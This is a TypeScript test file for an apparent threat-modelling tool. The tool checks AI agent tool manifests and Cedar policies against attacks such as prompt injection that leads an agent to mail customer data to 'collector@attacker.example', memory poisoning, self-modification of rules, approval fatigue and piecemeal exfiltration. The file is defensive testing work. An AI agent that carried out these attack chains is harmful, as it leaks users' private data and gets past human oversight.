import { expect, test } from 'vitest'
import { asiTitles, severities, threatKindNames, threatKinds } from '../../src/assess/threats/threat-kinds.ts'
import type { Threat } from '../../src/assess/threats/threat-model.ts'
import { modelFor, takes, threatsOf, trifecta } from './threat-rules.ts'

const rules = (manifest: (text: string) => string, more: Partial<typeof trifecta> = {}): typeof trifecta => ({
  ...trifecta,
  ...more,
  manifest: manifest(trifecta.manifest),
  schemas: { ...trifecta.schemas, ...more.schemas },
})
const answers = (threat: Threat | undefined): readonly string[] => threat?.steps.map(({ tool, response }) => `${tool} ${response}`) ?? []

test('Each kind of attack is mapped to OWASP ASI, MITRE ATLAS, STRIDE and MAESTRO.', () => {
  const stride = ['Spoofing', 'Tampering', 'Repudiation', 'Information disclosure', 'Denial of service', 'Elevation of privilege']
  expect(Object.keys(threatKinds)).toEqual([...threatKindNames])
  for (const name of threatKindNames) {
    const kind = threatKinds[name]
    for (const list of [kind.asi, kind.atlas, kind.stride, kind.maestro]) expect(list.length, name).toBeGreaterThan(0)
    for (const code of kind.asi) expect(asiTitles, name).toHaveProperty(code)
    for (const technique of kind.atlas) expect(technique).toMatch(/^AML\.T\d{4}(\.\d{3})?$/)
    for (const word of kind.stride) expect(stride).toContain(word)
    for (const layer of kind.maestro) expect(layer).toSatisfy((number: number) => number >= 1 && number <= 7)
    expect(severities.indexOf(kind.bounded)).toBeLessThanOrEqual(severities.indexOf(kind.severity))
  }
})

test('Strangers’ words, private data and a way out make an open attack, step by step, and labels follow through the session.', () => {
  const [threat] = threatsOf(modelFor(trifecta), 'trifecta')
  expect(threat).toMatchObject({ verdict: 'open', severity: 'high', tools: ['crm.customer', 'mail.send'], cut: null })
  expect(answers(threat)).toEqual(['inbox.read allow', 'crm.customer allow', 'mail.send allow'])
  expect(threat?.steps.map(({ labels }) => labels)).toEqual([[], ['untrusted'], ['pii', 'untrusted']])
  expect(threat?.steps.at(-1)?.arguments).toEqual({ to: 'collector@attacker.example', body: 'as the stranger asked' })
  expect(threat?.place).toEqual({ file: 'bailiwick.yaml', line: 17 })
})

test('The policy that is proposed for an open attack cuts it, and the cut names its line.', () => {
  const [threat] = threatsOf(modelFor(trifecta), 'trifecta')
  expect(threat?.remedy).toMatchObject({ into: 'policies/threats.cedar', verdict: 'cut' })
  const mended = modelFor({ ...trifecta, policies: { 'threats.cedar': threat?.remedy?.text ?? '' } })
  const [after] = threatsOf(mended, 'trifecta')
  expect(after).toMatchObject({ id: threat?.id, verdict: 'cut', remedy: null })
  expect(after?.cut).toMatchObject({ step: 3, tier: 'T2', place: { file: 'policies/threats.cedar', line: 1 } })
})

test('A frame on the recipient leaves the attack open, but milder; a confirmation puts it before a person.', () => {
  const framed = rules((text) => text.replace('mail.send: {}', 'mail.send: { to: { domain: corp.example } }'))
  const [bounded] = threatsOf(modelFor(framed), 'trifecta')
  expect(bounded).toMatchObject({ verdict: 'open', severity: 'medium' })
  expect(bounded?.steps.at(-1)?.arguments['to']).toBe('someone@corp.example')
  const [asked] = threatsOf(modelFor(rules((text) => `${text}    confirm: [mail.send]\n`)), 'trifecta')
  expect(asked).toMatchObject({ verdict: 'ask' })
})

test('A policy on a recipient that the attacker would choose does not hide that another would go through.', () => {
  const policies = {
    'mail.cedar':
      '@id("home") forbid(principal, action == Action::"mail.send", resource) unless { context.input.to like "*@corp.example" };',
  }
  const [threat] = threatsOf(modelFor({ ...trifecta, policies }), 'trifecta')
  expect(threat).toMatchObject({ verdict: 'open', severity: 'medium' })
})

test('An attack of which no call fits the contract is not said to be cut.', () => {
  const odd = rules((text) => text.replace('crm.customer: {}', 'crm.customer: { name: { pattern: "a.*", in: [bob] } }'))
  const [threat] = threatsOf(modelFor(odd), 'trifecta')
  expect(threat).toMatchObject({ verdict: 'untried', cut: { rule: 'T1.frame' } })
})

test('A fact that counts the steps of an attack cuts it where it would.', () => {
  const counted = rules((text) => `${text}facts:\n  reads: { count: crm.customer, within: 1h }\n`, {
    policies: { 'once.cedar': '@id("once") forbid(principal, action == Action::"mail.send", resource) when { context.facts.reads >= 1 };' },
  })
  expect(threatsOf(modelFor(counted), 'trifecta')[0]).toMatchObject({ verdict: 'cut', cut: { rule: 'once' } })
})

const files = (sinks: string, more = ''): typeof trifecta =>
  rules(
    (text) =>
      text
        .replace(
          'goals:\n  answer',
          `  files:\n    mcp: { command: node }\n    tools:\n      write: { effect: write, sinks: { ${sinks} } }\n      read: { effect: read }\ngoals:\n  answer`,
        )
        .replace('      mail.send: {}', `      mail.send: {}\n      files.write: {}\n      files.read: {}${more}`),
    { schemas: { 'files.write': takes('path', 'text'), 'files.read': takes('path') } },
  )

test('What one session keeps and another reads again without its label is an attack, and a policy on keeping it is proposed.', () => {
  const model = modelFor(files('path: path, text: content'))
  const [poisoned] = threatsOf(model, 'memory-poisoning')
  expect(answers(poisoned)).toEqual(['inbox.read allow', 'files.write allow', 'files.read allow', 'mail.send allow'])
  expect(poisoned?.steps.map(({ session }) => session)).toEqual([0, 0, 1, 1])
  expect(poisoned?.steps.at(-1)?.labels).toEqual([])
  expect(poisoned?.remedy?.text).toContain('action == Action::"files.write"')
  expect(threatsOf(model, 'laundering')[0]).toMatchObject({ verdict: 'open' })
})

test('Where a policy watches strangers’ words, to label what is read again is the change proposed against poisoned memory.', () => {
  const policies = {
    'ask.cedar':
      '@id("ask") @response("ask") forbid(principal, action in Action::"external", resource) when { context.labels.contains("untrusted") };',
  }
  const [poisoned] = threatsOf(modelFor({ ...files('path: path, text: content'), policies }), 'memory-poisoning')
  expect(poisoned).toMatchObject({ verdict: 'open', remedy: { into: 'bailiwick.yaml', verdict: 'ask' } })
  expect(poisoned?.remedy?.text).toMatch(/read:\n\s+labels:\n\s+- untrusted$/)
})

test('The rules cannot be reached by a declared path; an argument that only looks like one is found, with the sink to declare.', () => {
  const writing = (sinks: string): Threat | undefined =>
    threatsOf(modelFor(files(sinks)), 'self-modification').find(({ tools }) => tools[0] === 'files.write')
  expect(writing('path: path, text: content')).toMatchObject({ verdict: 'cut', cut: { rule: 'T1.own-files' } })
  const silent = writing('text: content')
  expect(silent).toMatchObject({ verdict: 'open', severity: 'critical', remedy: { into: 'bailiwick.yaml', verdict: 'cut' } })
  expect(silent?.remedy?.text).toContain('path: path')
})

test('Two goals of one agent that no contract has together are an attack of their own.', () => {
  const split = rules((text) =>
    text
      .replace('goals: [answer]', 'goals: [answer, tell]')
      .replace('      mail.send: {}\n', '')
      .concat('  tell: { tools: { mail.send: {} } }\n'),
  )
  const model = modelFor(split)
  expect(threatsOf(model, 'trifecta')).toEqual([])
  expect(threatsOf(model, 'goal-widening')[0]).toMatchObject({ verdict: 'open', remedy: { into: 'bailiwick.yaml', verdict: 'ask' } })
})

test('Whoever can be asked without end tires, and a rate stops it.', () => {
  const tiring = threatsOf(modelFor(rules((text) => `${text}    confirm: [mail.send]\n`)), 'approval-fatigue')
  expect(tiring).toMatchObject([
    { verdict: 'open', tools: ['mail.send'], remedy: { text: expect.stringContaining('mail.send: 5/1h') as string, verdict: 'cut' } },
  ])
  const rated = rules((text) =>
    text.replace('limits: { calls: 100 }', 'limits: { calls: 100, rates: { mail.send: 5/1h } }\n    confirm: [mail.send]'),
  )
  expect(threatsOf(modelFor(rated), 'approval-fatigue')).toMatchObject([{ verdict: 'cut', cut: { step: 6, rule: 'T4.rate' } }])
})

test('Data that leaves in small pieces is stopped by a rate, or by a limit on calls.', () => {
  expect(threatsOf(modelFor(trifecta), 'small-pieces')).toMatchObject([{ verdict: 'open', remedy: { into: 'bailiwick.yaml' } }])
  const limited = rules((text) => text.replace('calls: 100', 'calls: 10'))
  expect(threatsOf(modelFor(limited), 'small-pieces')).toMatchObject([{ verdict: 'cut', cut: { rule: 'T4.calls', place: { line: 18 } } }])
})

test('A changed tool and a name that only looks like another are cut by T1.', () => {
  const plain = rules((text) => text.replace('mail:\n    mcp: { command: node }', 'mail:\n    names: plain\n    mcp: { command: node }'))
  const model = modelFor(plain)
  expect(threatsOf(model, 'changed-tool').map(({ cut }) => cut?.rule)).toEqual(['T1.pin', 'T1.pin', 'T1.pin'])
  expect(threatsOf(model, 'look-alike')).toMatchObject([{ verdict: 'cut', cut: { rule: 'T1.inventory' } }])
})

test('Of an agent that is only observed nothing is cut by policy, and the first thing proposed is to enforce.', () => {
  const observed = rules((text) => text.replace('goals: [answer] }', 'goals: [answer], mode: observe }'), {
    policies: { 'no.cedar': '@id("no") forbid(principal, action == Action::"mail.send", resource);' },
  })
  expect(threatsOf(modelFor(observed), 'trifecta')).toMatchObject([
    { verdict: 'open', remedy: { into: 'bailiwick.yaml', text: expect.stringContaining('mode: enforce') as string } },
  ])
})

test('A capability that is assumed opens what policies do not close.', () => {
  const kinds = (assume: 'shell' | 'browser' | 'memory' | 'sub-agent'): readonly string[] => {
    const known = new Set(
      modelFor(trifecta)
        .threats.filter(({ verdict }) => verdict === 'open')
        .map(({ id }) => id),
    )
    const { threats } = modelFor(trifecta, { assume, remedies: false })
    return [...new Set(threats.filter(({ id, verdict }) => verdict === 'open' && !known.has(id)).map(({ kind }) => kind))].sort()
  }
  expect(kinds('shell')).toEqual(['injected-command', 'injected-destruction', 'self-modification'])
  expect(kinds('browser')).toEqual(['small-pieces', 'trifecta'])
  expect(kinds('memory')).toEqual(['laundering', 'memory-poisoning'])
  expect(kinds('sub-agent')).toEqual(['small-pieces', 'trifecta'])
})

test('An agent under an attacker’s control needs no stranger’s words, so that a policy on them does not help.', () => {
  const policies = {
    'no.cedar': '@id("no") forbid(principal, action == Action::"mail.send", resource) when { context.labels.contains("untrusted") };',
  }
  expect(threatsOf(modelFor({ ...trifecta, policies }), 'trifecta')[0]?.verdict).toBe('cut')
  const [threat] = threatsOf(modelFor({ ...trifecta, policies }, { assume: 'compromised' }), 'trifecta')
  expect(threat).toMatchObject({ verdict: 'open', remedy: { verdict: 'cut' } })
  expect(answers(threat)).toEqual(['crm.customer allow', 'mail.send allow'])
})

test('The same rules give the same model, to the letter.', () => {
  expect(JSON.stringify(modelFor(trifecta))).toBe(JSON.stringify(modelFor(trifecta)))
})
